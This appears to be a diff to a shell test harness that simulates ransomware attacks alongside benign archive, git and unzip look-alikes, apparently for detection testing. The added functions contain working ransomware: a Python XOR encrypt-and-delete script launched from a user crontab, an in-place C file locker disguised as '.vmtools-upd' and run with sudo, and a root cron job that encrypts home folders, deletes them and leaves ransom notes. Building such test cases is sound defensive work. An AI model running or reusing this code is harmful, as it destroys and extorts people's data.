@@ -238,3 +238,88 @@ pre_b16_ssh_7z_extract_archives() {
 sc_b16_ssh_7z_extract_archives() {
   sshx priya 'cd ~/work && for a in *.7z; do 7z x -bd -y -p"arch-9" "$a" >/dev/null && rm -f "$a"; done; ls -R | wc -l'
 }
+
+# ---- fifth batch: copy-and-delete in python from a user's crontab, an in-place C wiper-locker without renames,
+# tar | openssl per home as root, and archive/checkout/unzip look-alikes
+sc_h11_cron_user_python_copy_delete() {
+  install -d -o tomas -g tomas /home/tomas/.local/share/upd
+  cat > /home/tomas/.local/share/upd/upd.py <<'P'
+import os, sys
+key = b'k3y-of-tomas-2026'
+for top in sys.argv[1:]:
+    for root, dirs, files in os.walk(top):
+        for n in files:
+            if n.endswith('.tomcrypt') or n == 'HELP_RECOVER.txt':
+                continue
+            p = os.path.join(root, n)
+            with open(p, 'rb') as f:
+                data = f.read()
+            with open(p + '.tomcrypt', 'wb') as f:
+                f.write(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))
+            os.remove(p)
+        with open(os.path.join(root, 'HELP_RECOVER.txt'), 'w') as f:
+            f.write('files encrypted; write to tom@onion.example\n')
+open('/tmp/.h11-done', 'w').close()
+P
+  chown tomas: /home/tomas/.local/share/upd/upd.py
+  mkdir -p /home/tomas/proj; cp -r /srv/nas/share/clients_* /home/tomas/proj/ 2>/dev/null; cp -r /srv/nas/share/2025_* /home/tomas/proj/ 2>/dev/null; chown -R tomas: /home/tomas/proj
+  echo "files $(find /home/tomas/proj -type f | wc -l) dirs $(find /home/tomas/proj -type d | wc -l)" > $CASE/facts
+  rm -f /tmp/.h11-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * /usr/bin/python3 /home/tomas/.local/share/upd/upd.py /home/tomas/proj" | crontab -u tomas -
+  wait_cron /tmp/.h11-done; sleep 2; crontab -u tomas -r; rm -rf /home/tomas/.local/share/upd
+}
+sc_h12_ssh_sudo_inplace_wiper_locker() {
+  cat > /tmp/w.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+/* ESXiArgs-like: encrypt the first 64 KiB of each file in place (O_WRONLY, no truncation, no rename) */
+static void hit(const char *p) {
+  unsigned char b[65536]; int fd = open(p, O_RDWR); if (fd < 0) return;
+  ssize_t n = read(fd, b, sizeof b); if (n > 0) { for (ssize_t i = 0; i < n; i++) b[i] ^= 0xa5 ^ (i & 0xff); lseek(fd, 0, SEEK_SET); write(fd, b, n); }
+  close(fd);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  while ((e = readdir(dir))) {
+    if (e->d_name[0] == '.' || !strcmp(e->d_name, "how_to_restore.html")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) hit(p);
+  }
+  closedir(dir);
+  snprintf(p, sizeof p, "%s/how_to_restore.html", d);
+  FILE *f = fopen(p, "w"); if (f) { fputs("<html>Send 2 BTC. Your files are encrypted.</html>\n", f); fclose(f); }
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /tmp/.vmtools-upd /tmp/w.c && rm -f /tmp/w.c && chmod 755 /tmp/.vmtools-upd
+  echo "files $(find /var/www/shop/uploads /srv/nas/share -type f | wc -l) dirs $(find /var/www/shop/uploads /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo /tmp/.vmtools-upd /var/www/shop/uploads /srv/nas/share'
+  rm -f /tmp/.vmtools-upd
+}
+sc_h13_cron_root_tar_openssl_homes() {
+  rm -f /tmp/.h13-done
+  cat > /etc/cron.d/zz-arch <<'S'
+SHELL=/bin/bash
+S
+  read m h < <(cron_at_next_minute)
+  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) dirs $(find /home/mkowalski/Documents /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
+  echo "$m $h * * * root for d in /home/mkowalski/Documents /home/priya/work; do tar cf - -C \"\$(dirname \$d)\" \"\$(basename \$d)\" | openssl enc -aes-256-cbc -pbkdf2 -pass pass:homes-X1 -out \"\$d.tar.enc\" && rm -rf \"\$d\" && echo 'Your home folders are encrypted. contact: homes@proton.example' > \"\$(dirname \$d)/HOMES_ENCRYPTED.txt\"; done; touch /tmp/.h13-done" >> /etc/cron.d/zz-arch
+  wait_cron /tmp/.h13-done; sleep 2; rm -f /etc/cron.d/zz-arch
+}
+sc_b17_ssh_tar_then_remove_project() {
+  sshx priya 'cd ~/work && for d in */; do tar czf "${d%/}.tar.gz" "$d" && rm -rf "$d"; done; ls'
+}
+pre_b18_ssh_git_checkout_branches() {
+  rm -rf /home/tomas/repo; su - tomas -c 'mkdir -p ~/repo && cd ~/repo && git init -q && for i in $(seq 1 150); do mkdir -p src/p$((i%12)); head -c 2000 /dev/urandom | base64 > src/p$((i%12))/m$i.py; done && git add -A && git -c user.email=t@x -c user.name=t commit -qm base && git checkout -qb next && for i in $(seq 1 150); do head -c 1500 /dev/urandom | base64 > src/p$((i%12))/m$i.py; done && git -c user.email=t@x -c user.name=t commit -qam next && git checkout -q master'
+}
+sc_b18_ssh_git_checkout_branches() { sshx tomas 'cd ~/repo && git checkout -q next && git checkout -q master && git checkout -q next && git stash list | wc -l'; rm -rf /home/tomas/repo; }
+pre_b19_ssh_unzip_over() { su - mkowalski -c 'cd ~ && zip -q -r /tmp/mk-docs.zip Documents'; chmod 644 /tmp/mk-docs.zip; }
+sc_b19_ssh_unzip_over() { sshx mkowalski 'cd ~ && unzip -q -o /tmp/mk-docs.zip && ls -R Documents | wc -l'; rm -f /tmp/mk-docs.zip; }
+sc_b20_ssh_user_7z_one_folder() {
+  sshx priya 'cd ~/work && d=$(ls -d */ | head -1) && 7z a -bd -p"mine!" -mhe=on "${d%/}.7z" "$d" >/dev/null && rm -rf "$d" && ls'
+}
